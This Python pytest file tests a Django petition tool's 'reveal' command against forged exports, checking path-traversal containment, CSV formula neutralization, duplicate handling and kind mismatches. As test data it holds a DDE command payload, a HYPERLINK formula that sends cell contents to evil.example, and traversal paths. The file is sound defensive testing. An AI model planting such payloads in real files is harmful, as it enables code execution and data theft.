"""`concerted reveal` trusts nothing the server sends: file names from safe parts only,
every CSV cell and header neutralized, repeats counted once and reported, and an export
whose records are another kind than it declares refused."""

from __future__ import annotations

import base64
import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse

from concerted.core import export as export_format
from concerted.core import sealing
from concerted.core.reveal import safe_cell
from concerted.core.testing import export_columns, reseal_columns
from concerted.petitions.signing import sign

pytestmark = pytest.mark.django_db


@pytest.fixture
def export(petition, owner):
    for name in ["Ada Lovelace", "=cmd|' /C calc'!A0", "Grace Hopper"]:
        sign(petition, {"name": name, "contact": "", "comment": "", "consent_named": True})
    client = Client()
    client.force_login(owner)
    return json.loads(client.get(reverse("petitions:export", args=[petition.pk])).content)


def reveal(tmp_path: Path, key_file: Path, data: dict) -> tuple[Path, str, str]:
    path = tmp_path / "forged.json"
    path.write_text(json.dumps(data))
    out, err = io.StringIO(), io.StringIO()
    target = tmp_path / "out"
    try:
        call_command("reveal", key=str(key_file), file=str(path), out=str(target), stdout=out, stderr=err)
    except CommandError as exc:
        err.write(f"CommandError: {exc}")
    return target, out.getvalue(), err.getvalue()


def files_under(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize(
    ("kind", "slug"),
    [
        ("../../escaped", "x"),
        ("ABSOLUTE", "x"),  # an absolute path: replaced by one under the run's folder
        ("petitions.signature/../../escaped", "x"),
        ("petitions.signature", "../../escaped"),
        ("petitions.signature", "ABSOLUTE"),
        ("petitions.signature", "..\\..\\escaped"),
        ("petitions.signature", "a/../../../escaped"),
    ],
)
def test_a_forged_export_cant_write_outside_out(tmp_path, key_file, private_key, export, kind, slug):
    # Absolute paths point into this run's own temporary folder, and only that folder is
    # searched: a file an earlier run (a mutant) left elsewhere can't fail this one.
    run_folder = tmp_path.parent
    kind = str(run_folder / "escaped") if kind == "ABSOLUTE" else kind
    slug = str(run_folder / "escaped") if slug == "ABSOLUTE" else slug
    # A server forges records too: it has the public key, so they open under any kind.
    columns = {record["id"]: export_columns(export, private_key, record) for record in export["records"]}
    for record in export["records"]:
        ids = export_format.expected_ids(export, record)
        data = sealing.open_sealed(private_key, base64.b64decode(record["sealed"]), kind=export["kind"], ids=ids)
        forged = sealing.seal(private_key.public_key, kind=kind, ids=ids, data=data)
        record["sealed"] = base64.b64encode(forged).decode()
        reseal_columns(export, private_key, record, columns[record["id"]], kind=kind)
    export["kind"] = kind
    export["parent"]["slug"] = slug
    before = files_under(tmp_path)
    reveal(tmp_path, key_file, export)
    written = files_under(tmp_path) - before - {"forged.json"}
    assert all(name.startswith("out/") and name.count("/") == 1 for name in written), written
    outside = [p for p in run_folder.rglob("*escaped*") if p.parent.name != "out"]
    assert outside == []


def test_every_cell_and_header_is_neutralized(tmp_path, key_file, private_key, export):
    for record in export["records"]:
        # Column names and values a forging server seals in (it has the public key).
        columns = export_columns(export, private_key, record)
        columns['=HYPERLINK("http://evil.example/?"&A1)'] = "+SUM(1,2)"
        columns["@import"] = {"nested": "=1+1"}
        reseal_columns(export, private_key, record, columns)
    out, stdout, _stderr = reveal(tmp_path, key_file, export)
    (csv_file,) = out.glob("*.csv")
    rows = list(csv.reader(io.StringIO(csv_file.read_text(encoding="utf-8"))))
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (cell, rows[0])
    assert "'=cmd|' /C calc'!A0" in [cell for row in rows for cell in row]
    assert "'+SUM(1,2)" in rows[1] and '\'=HYPERLINK("http://evil.example/?"&A1)' in rows[0]
    assert "Opened 3 records:" in stdout


def test_safe_cell_neutralizes_the_spreadsheet_formula_starts():
    for value in ["=1", "+1", "-1", "@A", "\t=1", "\r=1", " =1", "\uff1d1", None, {"a": "=1"}]:
        cell = safe_cell(value)
        assert not str(cell).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), value
    assert safe_cell("Ada") == "Ada" and safe_cell(5) == 5


def test_duplicated_and_replayed_records_are_counted_once_and_reported(tmp_path, key_file, export):
    first = export["records"][0]
    export["records"] += [dict(first), dict(first), {**first, "id": "f" * 32}]
    out, stdout, stderr = reveal(tmp_path, key_file, export)
    assert "Opened 3 records:" in stdout
    assert "3 duplicated or replayed records" in stderr
    assert "CommandError: 3 records could not be verified" in stderr
    (csv_file,) = out.glob("*.csv")
    assert len(list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8"))))) == 3


def test_records_of_another_kind_refuse_the_export(tmp_path, key_file, export):
    export["kind"] = "pledges.pledge"
    export["parent_field"] = "petition"
    out, _stdout, stderr = reveal(tmp_path, key_file, export)
    assert "refused: this export says it holds 'pledges.pledge' records" in stderr
    assert not out.exists() or not list(out.iterdir())
